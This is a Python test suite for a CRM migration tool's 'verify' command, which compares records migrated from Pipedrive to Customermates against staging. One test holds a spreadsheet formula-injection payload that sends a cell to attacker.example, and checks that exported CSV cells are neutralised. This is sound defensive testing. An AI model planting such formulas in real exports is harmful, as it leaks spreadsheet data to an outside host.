"""`migrate verify`: the target read back and compared with staging, against the fakes."""

from __future__ import annotations

import copy
import csv
import json
import math
from collections import Counter
from pathlib import Path
from typing import Any

import duckdb
import httpx
from click.testing import CliRunner
from rich.console import Console

from migrate.cli import cli
from migrate.report.run_report import print_listed
from migrate.report.verify import link_kind, services_kind
from migrate.staging import keys, store
from migrate.transform.engine import ENTITY_ORDER
from migrate.transform.entities import LINK_ENTITY
from tests.fakes.customermates import DEFAULT_USERS, VALID_KEY, FakeCustomermates

SINGULAR = {"contacts": "contact", "organizations": "organization", "deals": "deal", "services": "service", "tasks": "task"}
# every kind of failure: its CSV file's columns, and those written as JSON
FINDING_COLUMNS = {
    "missing": ["entity", "source_id", "quarantined", "reason"],
    "duplicates": ["entity", "source_id", "target_ids"],
    "link_mismatches": ["entity", "source_id", "kind", "missing"],
    "value_mismatches": ["entity", "source_id", "column", "type", "expected", "found"],
    "notes_missing": ["entity", "source_id", "target_id"],
}
JSON_COLUMNS = {"quarantined", "target_ids", "missing", "expected", "found"}


def invoke(args: list[str], env: dict[str, str]):
    return CliRunner().invoke(cli, args, env=env, catch_exceptions=False)


def verify(env: dict[str, str], report_dir: Path) -> tuple[int, dict[str, Any], str]:
    result = invoke(["verify", "--report-dir", str(report_dir)], env)
    return result.exit_code, json.loads((report_dir / "verify.json").read_text()), result.output


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def column(customermates: FakeCustomermates, entity: str, label: str) -> dict[str, Any]:
    return next(c for c in customermates.columns(SINGULAR[entity]) if c["label"] == label)


def pipedrive_id(customermates: FakeCustomermates, entity: str, record: dict[str, Any]) -> str:
    column_id = column(customermates, entity, "Pipedrive ID")["id"]
    return next(v["value"] for v in record["customFieldValues"] if v["columnId"] == column_id)


def api(customermates: FakeCustomermates, method: str, path: str, body: dict[str, Any]) -> Any:
    response = httpx.request(method, f"{customermates.url}/api/v1{path}", json=body, headers={"x-api-key": VALID_KEY})
    assert response.status_code in (200, 201), response.text
    return response.json()


def test_verify_after_a_clean_run_matches_everything(env, sample_dir, tmp_path):
    # users with the sample's emails, so owners are matched and owner→user links are checked
    owners = [json.loads(line) for line in (sample_dir / "users.jsonl").read_text().splitlines() if line.strip()]
    users = copy.deepcopy(DEFAULT_USERS) + [
        {"id": f"3333333{n}-3333-4333-8333-333333333333", "email": u["email"], "firstName": "Owner", "lastName": str(n)}
        for n, u in enumerate(owners[:3])
    ]
    with FakeCustomermates(users=users) as fake:
        env = dict(env, CUSTOMERMATES_URL=fake.url)
        assert invoke(["run", "--source", str(sample_dir)], env).exit_code == 0
        fake.clear_requests()
        code, report, output = verify(env, tmp_path / "out")
        requests = list(fake.requests)

    assert code == 0, output
    assert "everything matches" in output
    assert report["status"] == "ok"
    assert ((tmp_path / "out" / "verify.json").stat().st_mode & 0o777) == 0o600
    for entity, row in report["entities"].items():
        assert row["source"] == row["target"] == row["matched"] > 0, entity
        assert row["missing"] == row["duplicates"] == row["extras"] == 0, entity
    assert {
        "contact→organization", "deal→contact", "deal→organization", "deal→service (with quantity)",
        "task→deal", "task→contact", "task→organization", "owner→user",
    } <= set(report["links"])
    for kind, row in report["links"].items():
        assert row["percent"] == 100.0, kind
    assert report["links"]["owner→user"]["preserved"] > 0
    assert report["links"]["owner→user"]["excepted"] > 0  # owners 4 and 5 have no Customermates user
    assert {"plain", "singleSelect", "date", "dateTime", "currency", "phone", "link"} <= set(report["values"])
    assert all(row["percent"] == 100.0 for row in report["values"].values())
    assert all(row["percent"] == 100.0 for row in report["notes"].values())
    assert report["known_lossy"]["by_rule"]  # listed, not counted
    # reads: one page-through per entity (⌈records/100⌉ searches) plus the users; nothing per record,
    # the key's check, and one configuration read: that the state file's columns are in this Customermates (`migrate.identity`)
    searches = [r for r in requests if r.path.endswith("/search")]
    assert [r.path for r in requests if r not in searches] == ["/api/v1/users/me", "/api/v1/organizations/configuration"]
    assert len(searches) == 1 + sum(math.ceil(row["target"] / 100) for row in report["entities"].values())


def test_a_record_deleted_in_the_target_is_listed_as_missing(migrated, customermates, tmp_path):
    env = migrated
    gone, quarantined = customermates.records("contacts")[:2]
    api(customermates, "DELETE", "/contacts/many", {"ids": [gone["id"], quarantined["id"]]})
    gone_sid = pipedrive_id(customermates, "contacts", gone)
    quarantined_sid = pipedrive_id(customermates, "contacts", quarantined)
    con = duckdb.connect(env["MIGRATE_STATE"])  # as if the load had quarantined the second one
    con.execute("DELETE FROM id_map WHERE entity = 'contacts' AND source_id = ?", [quarantined_sid])
    con.execute("INSERT INTO quarantine VALUES ('contacts', ?, 'rejected by the server', '{}', 'r', now())", [quarantined_sid])
    con.close()

    code, report, output = verify(env, tmp_path / "out")

    assert code == 1
    assert report["status"] == "mismatch"
    missing = {m["source_id"]: m for m in report["missing"]["examples"]}
    assert set(missing) == {gone_sid, quarantined_sid} and report["missing"]["count"] == 2
    assert missing[gone_sid]["reason"] == "deleted in Customermates after it was migrated"
    assert missing[quarantined_sid]["quarantined"] and "rejected by the server" in missing[quarantined_sid]["reason"]
    assert report["known_failures"]["count"] == 1
    assert [q["source_id"] for q in report["known_failures"]["examples"]] == [quarantined_sid]
    row = report["entities"]["contacts"]
    assert (row["missing"], row["quarantined"], row["matched"]) == (2, 1, row["source"] - 2)
    assert "Missing in Customermates" in output and gone_sid in output


def test_links_to_quarantined_records_are_excepted_and_each_missing_record_says_why_when_checked_a_batch_at_a_time(
    migrated, customermates, tmp_path, monkeypatch
):
    """Verify looks the quarantine and `migrate undo`'s log up per batch of records (batches of 5
    here, so links cross batches): an organization and a service the load quarantined are missing
    as quarantined and every link to them is excepted; a task undone and one a user deleted are
    missing, each with its reason; nothing else fails."""
    env = migrated
    monkeypatch.setattr(store, "TARGET_BATCH", 5)
    con = duckdb.connect(env["MIGRATE_STATE"])
    payloads = {(e, s): json.loads(p) for e, s, p in con.execute("SELECT entity, source_id, payload FROM target_records").fetchall()}
    refs = Counter((LINK_ENTITY[key], ref) for payload in payloads.values() for key, wanted in payload["links"].items() for ref in wanted)
    refs.update(("services", ref) for (entity, _), payload in payloads.items() if entity == "deals" for ref, _ in payload["services"])
    org = max((r for r in refs if r[0] == "organizations"), key=refs.__getitem__)
    service = max((r for r in refs if r[0] == "services"), key=refs.__getitem__)
    deleted, undone = sorted((key for key in payloads if key[0] == "tasks"), key=lambda key: keys.order_key(key[1]))[:2]
    target_id = dict(((e, s), t) for e, s, t in con.execute("SELECT entity, source_id, target_id FROM id_map").fetchall())
    for entity, sid in (org, service, deleted, undone):
        api(customermates, "DELETE", f"/{entity}/many", {"ids": [target_id[entity, sid]]})
    for entity, sid in (org, service):  # as if the load had quarantined them
        con.execute("DELETE FROM id_map WHERE entity = ? AND source_id = ?", [entity, sid])
        con.execute("INSERT INTO quarantine VALUES (?, ?, ?, '{}', 'r', now())", [entity, sid, f"rejected {entity}"])
    con.execute("DELETE FROM id_map WHERE entity = 'tasks' AND source_id = ?", [undone[1]])  # as `migrate undo` does
    con.execute("INSERT INTO undone VALUES ('tasks', ?, ?, 'r', now(), 'deleted')", [undone[1], target_id[undone]])
    con.close()
    excepted: Counter[str] = Counter()  # the links of the records still there to the two quarantined ones
    for (entity, sid), payload in payloads.items():
        if (entity, sid) in (org, service, deleted, undone):
            continue
        excepted.update(link_kind(entity, key) for key, wanted in payload["links"].items() for ref in wanted if (LINK_ENTITY[key], ref) in (org, service))
        excepted.update(services_kind() for ref, _ in payload.get("services") or [] if ("services", ref) == service)

    code, report, output = verify(env, tmp_path / "out")

    assert code == 1 and report["summary"] == "4 missing"
    reasons = {(m["entity"], m["source_id"]): (m["quarantined"], m["reason"]) for m in report["missing"]["examples"]}
    assert reasons == {
        org: (True, "quarantined: rejected organizations"),
        service: (True, "quarantined: rejected services"),
        deleted: (False, "deleted in Customermates after it was migrated"),
        undone: (False, "removed by `migrate undo`; `migrate run` creates it again"),
    }
    assert {e: r["quarantined"] for e, r in report["entities"].items()} == {e: int(e in (org[0], service[0])) for e in ENTITY_ORDER}
    assert excepted[link_kind("contacts", "organizationIds")] and excepted[services_kind()]
    assert {kind: report["links"][kind]["excepted"] for kind in excepted} == dict(excepted)
    assert all(row["preserved"] + row["excepted"] == row["expected"] for row in report["links"].values())
    assert report["link_mismatches"]["count"] == report["duplicates"]["count"] == report["value_mismatches"]["count"] == 0


def test_a_duplicate_pipedrive_id_is_listed_and_an_extra_record_is_not_a_failure(migrated, customermates, tmp_path):
    env = migrated
    original = customermates.records("organizations")[0]
    sid = pipedrive_id(customermates, "organizations", original)
    column_id = column(customermates, "organizations", "Pipedrive ID")["id"]
    api(customermates, "POST", "/organizations/many", {"organizations": [{"name": "Created by a user"}]})

    code, report, output = verify(env, tmp_path / "extra")
    assert code == 0, output
    assert report["entities"]["organizations"]["extras"] == 1
    assert report["extras"]["count"] == 1 and report["extras"]["examples"][0]["pipedrive_id"] is None

    copy_ = api(
        customermates, "POST", "/organizations/many",
        {"organizations": [{"name": original["name"], "customFieldValues": [{"columnId": column_id, "value": sid}]}]},
    )[0]
    code, report, output = verify(env, tmp_path / "dup")
    assert code == 1
    (duplicate,) = report["duplicates"]["examples"]
    assert report["duplicates"]["count"] == 1
    assert (duplicate["entity"], duplicate["source_id"]) == ("organizations", sid)
    assert set(duplicate["target_ids"]) == {original["id"], copy_["id"]}
    assert report["entities"]["organizations"]["duplicates"] == 1
    assert "Duplicated in Customermates" in output


def test_a_changed_custom_value_lowers_that_column_types_preservation(migrated, customermates, tmp_path):
    env = migrated
    status = column(customermates, "deals", "Status")
    options = [o["value"] for o in status["options"]["options"]]
    deal = next(d for d in customermates.records("deals") if any(v["columnId"] == status["id"] for v in d["customFieldValues"]))
    current = next(v["value"] for v in deal["customFieldValues"] if v["columnId"] == status["id"])
    other = next(o for o in options if o != current)
    api(customermates, "PUT", "/deals/many", {"deals": [{"id": deal["id"], "customFieldValues": [{"columnId": status["id"], "value": other}]}]})

    code, report, output = verify(env, tmp_path / "out")

    assert code == 1
    assert report["values"]["singleSelect"]["percent"] < 100.0
    assert report["values"]["singleSelect"]["preserved"] == report["values"]["singleSelect"]["expected"] - 1
    assert report["values"]["plain"]["percent"] == 100.0
    (mismatch,) = report["value_mismatches"]["examples"]
    assert report["value_mismatches"]["count"] == 1
    assert (mismatch["entity"], mismatch["column"], mismatch["type"]) == ("deals", "Status", "singleSelect")
    assert mismatch["source_id"] == pipedrive_id(customermates, "deals", deal)
    assert report["missing"]["count"] == report["duplicates"]["count"] == 0
    assert "Values that differ" in output


def test_a_link_removed_in_the_target_is_listed_when_records_are_checked_a_batch_at_a_time(migrated, customermates, tmp_path, monkeypatch):
    """Verify reads the target into the state file and checks staging against it per batch of
    records (batches of 5 here, so the links cross batches): one removed link is one lost link."""
    env = migrated
    monkeypatch.setattr(store, "TARGET_BATCH", 5)
    linked = [c for c in customermates.records("contacts") if c.get("organizations")]
    contact = linked[len(linked) // 2]
    api(customermates, "PUT", "/contacts/many", {"contacts": [{"id": contact["id"], "organizationIds": []}]})

    code, report, output = verify(env, tmp_path / "out")

    assert code == 1
    row = report["links"]["contact→organization"]
    assert row["preserved"] == row["expected"] - 1 and row["excepted"] == 0
    (lost,) = report["link_mismatches"]["examples"]
    assert report["link_mismatches"]["count"] == 1
    assert (lost["kind"], lost["source_id"]) == ("contact→organization", pipedrive_id(customermates, "contacts", contact))
    for kind, tally in report["links"].items():
        assert kind == "contact→organization" or tally["percent"] in (100.0, None), kind
    assert report["missing"]["count"] == report["duplicates"]["count"] == report["extras"]["count"] == 0
    assert all(r["matched"] == r["source"] == r["target"] for r in report["entities"].values())
    assert "Lost links" in output


def test_every_extra_record_is_listed_in_extras_csv_and_verify_json_keeps_their_count_and_a_few_examples(migrated, customermates, tmp_path):
    """Extras are not held: counted in SQL, a few per entity in verify.json, all of them streamed
    from the state file to extras.csv, in the order read."""
    env = migrated
    names = [f"Created by a user {n}" for n in range(5)]
    made = api(customermates, "POST", "/organizations/many", {"organizations": [{"name": name} for name in names]})
    column_id = column(customermates, "contacts", "Pipedrive ID")["id"]
    stray = api(
        customermates, "POST", "/contacts/many",
        {"contacts": [{"firstName": "Not", "lastName": "Migrated", "customFieldValues": [{"columnId": column_id, "value": "999999"}]}]},
    )[0]

    code, report, output = verify(env, tmp_path / "out")

    assert code == 0, output
    path = tmp_path / "out" / "extras.csv"
    assert (path.stat().st_mode & 0o777) == 0o600
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert {(r["entity"], r["target_id"], r["pipedrive_id"]) for r in rows} == {
        *(("organizations", m["id"], "") for m in made), ("contacts", stray["id"], "999999")
    }
    assert [r["entity"] for r in rows] == ["organizations"] * 5 + ["contacts"]  # entity order, then the order read
    extras = report["extras"]
    assert extras["count"] == 6 and extras["file"] == str(path)
    assert (report["entities"]["organizations"]["extras"], report["entities"]["contacts"]["extras"]) == (5, 1)
    assert extras["examples"] == [
        {"entity": r["entity"], "target_id": r["target_id"], "pipedrive_id": r["pipedrive_id"] or None} for r in rows[:3] + rows[5:]
    ]
    assert f"notafailure):6(listedin{path})" in "".join(output.split())  # the console may wrap the path anywhere


def test_a_pipedrive_id_a_user_typed_as_a_formula_reaches_a_spreadsheet_as_text(migrated, customermates, tmp_path):
    """extras.csv shows what users typed into the Pipedrive ID column; a cell beginning with `=`, `+`,
    `-` or `@` is a formula to a spreadsheet, which ran it (here: sent the sheet's first cell away)
    where the reader expected an id. Such a cell starts with an apostrophe, which a spreadsheet shows
    as text; a negative number stays as it is."""
    formula = '=HYPERLINK("https://attacker.example/?"&A2,"open")'
    column_id = column(customermates, "contacts", "Pipedrive ID")["id"]
    made = api(
        customermates, "POST", "/contacts/many",
        {"contacts": [{"firstName": "Typed", "lastName": "By a user", "customFieldValues": [{"columnId": column_id, "value": value}]}
                      for value in (formula, "@SUM(1)", "-12")]},
    )

    code, _, output = verify(migrated, tmp_path / "out")

    assert code == 0, output
    rows = csv_rows(tmp_path / "out" / "extras.csv")
    typed = {r["target_id"]: r["pipedrive_id"] for r in rows if r["entity"] == "contacts"}
    assert typed == {made[0]["id"]: "'" + formula, made[1]["id"]: "'@SUM(1)", made[2]["id"]: "-12"}


def test_a_verify_before_the_load_lists_every_record_in_missing_csv_and_verify_json_keeps_the_count_and_the_first_few(env, sample_dir, tmp_path):
    """Nothing arrived: every record is a failure. verify.json and the output hold the count and
    the first 15; missing.csv every one, streamed from the state file in entity order, then the
    order verified (the records' id order)."""
    assert invoke(["run", "--dry-run", "--source", str(sample_dir)], env).exit_code == 0

    code, report, output = verify(env, tmp_path / "out")

    assert code == 1
    path = tmp_path / "out" / "missing.csv"
    assert (path.stat().st_mode & 0o777) == 0o600
    rows = csv_rows(path)
    con = duckdb.connect(env["MIGRATE_STATE"], read_only=True)
    staged = con.execute("SELECT entity, source_id FROM target_records").fetchall()
    con.close()
    in_order = [(e, sid) for e in ENTITY_ORDER for sid in sorted((s for x, s in staged if x == e), key=keys.order_key)]
    assert [(r["entity"], r["source_id"]) for r in rows] == in_order
    assert {(r["quarantined"], r["reason"]) for r in rows} == {("false", "not loaded yet")}
    missing = report["missing"]
    assert missing["count"] == len(rows) > 15 and missing["file"] == str(path)
    assert missing["examples"] == [
        {"entity": r["entity"], "source_id": r["source_id"], "quarantined": False, "reason": r["reason"]} for r in rows[:15]
    ]
    assert sum(row["missing"] for row in report["entities"].values()) == len(rows)
    assert report["summary"] == f"{len(rows)} missing"
    squashed = "".join(output.split())  # the console folds long lines, even inside a path
    assert f"MissinginCustomermates({len(rows)},listedin{path}):" in squashed and f"…and{len(rows) - 15}more" in squashed
    unlisted = " ".join(invoke(["verify"], env).output.split())
    assert f"Missing in Customermates ({len(rows)}):" in unlisted and f"… and {len(rows) - 15} more; `--report-dir` lists every one" in unlisted


def test_a_listed_kind_prints_its_count_file_first_examples_cut_to_200_characters_and_how_many_more():
    found = {"count": 7, "examples": [{"id": str(n), "text": "x" * 300} for n in range(5)], "file": "/out/kind.csv"}
    console = Console(width=400, record=True)
    print_listed(console, "[bold red]Kind[/bold red]", found, lambda item: f"{item['id']}: {item['text']}", after=":", max_rows=3)
    lines = console.export_text().splitlines()
    assert lines[0] == "Kind (7, listed in /out/kind.csv):"
    assert lines[1:4] == [("  • " + f"{n}: " + "x" * 300)[:200] for n in range(3)]
    assert lines[4:] == ["  … and 4 more"]
    console = Console(width=400, record=True)
    print_listed(console, "Kind", {**found, "file": None}, lambda item: item["id"], unlisted="ask for the file")
    assert console.export_text().splitlines() == ["Kind (7)", "  • 0", "  • 1", "  • 2", "  • 3", "  • 4", "  … and 2 more; ask for the file"]
    console = Console(width=400, record=True)
    print_listed(console, "Kind", {"count": 0, "examples": [], "file": None}, lambda item: item["id"])
    assert console.export_text() == ""


def test_verify_after_a_run_whose_every_record_was_rejected_keeps_the_known_failures_count_and_first_20_and_lists_every_one_in_quarantine_csv(
    env, sample_dir, customermates, tmp_path
):
    customermates.fail_next(1_000_000, status=400, path_contains="/many")  # every write refused
    assert invoke(["run", "--source", str(sample_dir)], env).exit_code == 3

    code, report, output = verify(env, tmp_path / "out")

    assert code == 1
    path = tmp_path / "out" / "quarantine.csv"
    rows = csv_rows(path)
    missing = csv_rows(tmp_path / "out" / "missing.csv")
    assert sorted((r["entity"], r["source_id"]) for r in missing) == [(r["entity"], r["source_id"]) for r in rows]
    assert {r["quarantined"] for r in missing} == {"true"} and all(m["reason"].startswith("quarantined: ") for m in missing)
    assert report["known_failures"] == {"count": len(rows), "examples": rows[:20], "file": str(path)} and len(rows) > 20
    assert all(row["quarantined"] == row["missing"] == row["source"] for row in report["entities"].values())
    assert f"counted as missing): {len(rows)} (listed in" in " ".join(output.split())


def test_every_kind_of_failure_is_a_row_of_its_csv_file_with_nested_values_as_json(migrated, customermates, tmp_path):
    env = migrated
    gone = customermates.records("contacts")[0]
    api(customermates, "DELETE", "/contacts/many", {"ids": [gone["id"]]})
    original = customermates.records("organizations")[0]
    pid_column = column(customermates, "organizations", "Pipedrive ID")["id"]
    api(
        customermates, "POST", "/organizations/many",
        {"organizations": [{"name": original["name"], "customFieldValues": [{"columnId": pid_column, "value": pipedrive_id(customermates, "organizations", original)}]}]},
    )
    unlinked = [c for c in customermates.records("contacts") if c.get("organizations")][-1]
    api(customermates, "PUT", "/contacts/many", {"contacts": [{"id": unlinked["id"], "organizationIds": []}]})
    status = column(customermates, "deals", "Status")
    deal = next(d for d in customermates.records("deals") if any(v["columnId"] == status["id"] for v in d["customFieldValues"]))
    current = next(v["value"] for v in deal["customFieldValues"] if v["columnId"] == status["id"])
    other = next(o["value"] for o in status["options"]["options"] if o["value"] != current)
    api(customermates, "PUT", "/deals/many", {"deals": [{"id": deal["id"], "customFieldValues": [{"columnId": status["id"], "value": other}]}]})
    noted = next(o for o in customermates.records("organizations") if o.get("notes") and o["id"] != original["id"])
    api(customermates, "PUT", "/organizations/many", {"organizations": [{"id": noted["id"], "notes": None}]})

    code, report, _ = verify(env, tmp_path / "out")

    assert code == 1
    for kind, columns in FINDING_COLUMNS.items():
        path = tmp_path / "out" / f"{kind}.csv"
        rows = csv_rows(path)
        assert rows and list(rows[0]) == columns, kind
        decoded = [{c: json.loads(v) if c in JSON_COLUMNS else v for c, v in row.items()} for row in rows]
        assert decoded == report[kind]["examples"] and report[kind]["count"] == len(rows), kind
        assert report[kind]["file"] == str(path)
    assert (report["missing"]["examples"][0]["source_id"], report["notes_missing"]["examples"][0]["target_id"]) == (
        pipedrive_id(customermates, "contacts", gone), noted["id"]
    )
    assert set(report["duplicates"]["examples"][0]["target_ids"]) > {original["id"]}


def test_a_later_verify_replaces_the_earlier_lists_and_writes_every_csv_file_even_when_empty(env, sample_dir, tmp_path):
    assert invoke(["run", "--dry-run", "--source", str(sample_dir)], env).exit_code == 0
    assert verify(env, tmp_path / "out")[1]["missing"]["count"] > 0
    assert invoke(["run", "--source", str(sample_dir)], env).exit_code == 0

    code, report, output = verify(env, tmp_path / "out")

    assert code == 0, output
    for kind, columns in FINDING_COLUMNS.items():
        path = tmp_path / "out" / f"{kind}.csv"
        assert report[kind] == {"count": 0, "examples": [], "file": str(path)}
        assert path.read_text(encoding="utf-8").splitlines() == [",".join(columns)]
    con = duckdb.connect(env["MIGRATE_STATE"], read_only=True)
    assert con.execute("SELECT count(*) FROM verify_findings").fetchone() == (0,)
    con.close()


def test_the_state_file_gives_back_one_kind_of_finding_in_the_order_found_a_batch_at_a_time(tmp_path):
    with store.Staging(tmp_path / "state.duckdb") as staging:
        staging.add_verify_findings([("missing", "contacts", n, json.dumps({"n": n})) for n in range(10, 20)])
        staging.add_verify_findings([("missing", "organizations", n, json.dumps({"n": n})) for n in range(10)])
        staging.add_verify_findings([("duplicates", "contacts", 20, json.dumps({"n": 20}))])

        assert [f["n"] for f in staging.verify_findings("missing", batch_size=3)] == list(range(20))

        staging.clear_verify_findings()
        assert list(staging.verify_findings("missing")) == []


def test_the_state_file_gives_back_quarantined_records_by_entity_and_source_id_a_batch_at_a_time_and_looks_them_up_by_the_batch(tmp_path):
    with store.Staging(tmp_path / "state.duckdb") as staging:
        for entity, sid in [("tasks", "2"), ("contacts", "10"), ("contacts", "9"), ("organizations", "1"), ("contacts", "1"), ("tasks", "1")]:
            staging.quarantine(entity, sid, f"no {entity} {sid}", {}, "r")
        staging.record_undone("contacts", [("5", "t5")], "r", "deleted")
        in_order = [("contacts", "1"), ("contacts", "10"), ("contacts", "9"), ("organizations", "1"), ("tasks", "1"), ("tasks", "2")]

        assert [(q["entity"], q["source_id"]) for q in staging.quarantined(batch_size=2)] == in_order
        assert [(q["entity"], q["source_id"]) for q in staging.quarantined(limit=3, batch_size=2)] == in_order[:3]
        assert next(staging.quarantined()) == {"entity": "contacts", "source_id": "1", "message": "no contacts 1", "run_id": "r"}
        assert staging.quarantine_counts() == {"contacts": 3, "organizations": 1, "tasks": 2}
        assert staging.quarantine_messages("contacts", ["9", "1", "2", "5"]) == {"9": "no contacts 9", "1": "no contacts 1"}
        assert staging.undone_among("contacts", ["9", "5"]) == {"5"} and staging.undone_among("tasks", ["5"]) == set()


def test_a_records_own_fields_changed_in_the_target_are_listed_as_values_that_differ(migrated, customermates, tmp_path):
    """A contact's first name and emails, a service's name and amount: the records' own fields are
    values too; verify said "everything matches" when they differed."""
    env = migrated
    contact = next(c for c in customermates.records("contacts") if c["emails"])
    service = customermates.records("services")[0]
    api(customermates, "PUT", "/contacts/many", {"contacts": [{"id": contact["id"], "firstName": "Edited", "emails": []}]})
    api(customermates, "PUT", "/services/many", {"services": [{"id": service["id"], "name": "Renamed", "amount": 12345}]})

    code, report, output = verify(env, tmp_path / "out")

    assert code == 1, output
    found = {(m["entity"], m["source_id"], m["column"]): (m["expected"], m["found"]) for m in csv_rows(tmp_path / "out" / "value_mismatches.csv")}
    contact_id, service_id = pipedrive_id(customermates, "contacts", contact), pipedrive_id(customermates, "services", service)
    assert found == {
        ("contacts", contact_id, "firstName"): (json.dumps(contact["firstName"], ensure_ascii=False), '"Edited"'),
        ("contacts", contact_id, "emails"): (json.dumps(contact["emails"], ensure_ascii=False), "[]"),
        ("services", service_id, "name"): (json.dumps(service["name"], ensure_ascii=False), '"Renamed"'),
        ("services", service_id, "amount"): (json.dumps(float(service["amount"])), "12345"),
    }
    assert report["values"]["built-in"]["preserved"] == report["values"]["built-in"]["expected"] - 4
    assert "everything matches" not in output


def test_records_a_sync_marked_deleted_in_pipedrive_are_counted_apart_not_as_extras(env, pipedrive, customermates, tmp_path):
    assert CliRunner().invoke(cli, ["run"], env=env).exit_code == 0
    for person in [p for p in pipedrive.collections["persons"] if not p.get("is_deleted")][:2]:
        person["is_deleted"], person["update_time"] = True, "2026-11-28T12:00:00Z"
    assert CliRunner().invoke(cli, ["sync"], env=env).exit_code == 0

    result = CliRunner().invoke(cli, ["verify", "--report-dir", str(tmp_path)], env=env)

    assert result.exit_code == 0, result.output
    report = json.loads((tmp_path / "verify.json").read_text())
    assert report["entities"]["contacts"]["deleted_in_pipedrive"] == 2
    assert report["extras"]["count"] == 0
    assert "still in Customermates (not a failure" in result.output
